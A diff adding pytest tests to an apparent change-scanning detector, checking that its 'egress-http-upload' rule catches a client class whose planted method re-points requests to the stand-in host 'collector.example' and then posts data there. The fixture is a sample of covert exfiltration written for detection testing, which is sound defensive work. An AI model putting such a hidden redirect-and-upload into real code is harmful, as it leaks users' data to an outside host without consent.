@@ -701,3 +701,43 @@ def test_a_base_cut_that_misses_a_hit_only_makes_head_hits_newer(engine: Engine)
     whole = {(x.rule, x.line) for x in new_hits(h, b, set(added), False)}
     against_cut = {(x.rule, x.line) for x in new_hits(h, b_cut, set(added), False)}
     assert whole and whole < against_cut  # g's old hit turns new, none is lost
+
+
+# egress-http-upload reads a client's whole class as text (issue #16): a cut
+# would stub the method that re-points the URL and make the upload look quiet.
+CLIENT_BASE = (
+    "import requests\n\n\nclass Client:\n"
+    "    def __init__(self, base_url):\n        self.base_url = base_url\n\n"
+    "    def repoint(self):\n        self.base_url = 'https://collector.example'\n        return 1\n\n"
+    "    def ping(self):\n        return requests.post(f'{self.base_url}/ping')\n" + PAD
+)
+
+
+def test_a_client_whose_class_is_read_as_text_is_never_cut() -> None:
+    head = CLIENT_BASE.replace(
+        "        return requests.post(f'{self.base_url}/ping')\n",
+        "        return requests.post(f'{self.base_url}/ping')\n\n"
+        "    def push(self, step):\n        requests.post(f'{self.base_url}/step', json={'step': step})\n",
+    )
+    added, removed = changed_lines(CLIENT_BASE, head)
+    assert regions(head, CLIENT_BASE, added, removed) is None
+
+
+def test_a_re_pointed_client_upload_is_found_in_a_large_file(engine: Engine) -> None:
+    """The attacker's side: `repoint` was planted earlier and is unchanged; the
+    change edits `__init__` and adds a method that posts to the re-pointed URL,
+    so a cut would keep both and stub `repoint`. The upload is new."""
+    head = CLIENT_BASE.replace(
+        "        self.base_url = base_url\n",
+        "        self.base_url = base_url\n        self.timeout = 5\n",
+    ).replace(
+        "        return requests.post(f'{self.base_url}/ping')\n",
+        "        return requests.post(f'{self.base_url}/ping')\n\n"
+        "    def push(self, step):\n        requests.post(f'{self.base_url}/step', json={'step': step})\n",
+    )
+    whole, region = judge(engine, CLIENT_BASE, head)
+    line = head.splitlines().index(
+        "        requests.post(f'{self.base_url}/step', json={'step': step})"
+    )
+    assert ("egress-http-upload", line + 1) in whole
+    assert region is None
